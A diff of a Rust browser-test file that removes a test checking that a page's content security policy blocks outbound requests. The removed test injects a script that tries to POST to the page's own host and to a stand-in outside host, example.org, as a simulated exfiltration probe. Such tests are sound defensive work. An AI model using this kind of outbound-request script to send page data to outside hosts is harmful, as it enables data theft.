@@ -68,33 +68,6 @@ pub fn nothing_is_requested_while_filling_saving_and_taking_away(visit: &Visit) 
     none(&asked.chain(heard.complaints).collect::<Vec<_>>())
 }
 
-/// Not even a script that got in could send what was written, to our own host or to another.
-pub fn the_content_policy_of_a_sheet_lets_nothing_out(visit: &Visit) -> Outcome {
-    for name in [CHANGE_LOG, COPIES] {
-        let mut page = visit.new_page()?;
-        open(visit, &mut page, name)?;
-        let sent: Vec<String> = page.ask(
-            "async () => {
-                const sent = [];
-                for (const address of [location.href, 'https://example.org/']) {
-                    await fetch(address, { method: 'POST', body: 'x' }).then(() => sent.push(address), () => {});
-                    if (await new Promise((done) => {
-                        const socket = new XMLHttpRequest();
-                        socket.onload = () => done(true);
-                        socket.onerror = () => done(false);
-                        socket.open('GET', address);
-                        socket.send();
-                    })) sent.push(address);
-                }
-                return sent;
-            }",
-            (),
-        )?;
-        none(&sent)?;
-    }
-    Ok(())
-}
-
 /// Leaving at once is no reason to lose the last word.
 pub fn what_is_typed_last_is_kept_when_the_page_is_left_at_once(visit: &Visit) -> Outcome {
     let mut page = change_log(visit)?;
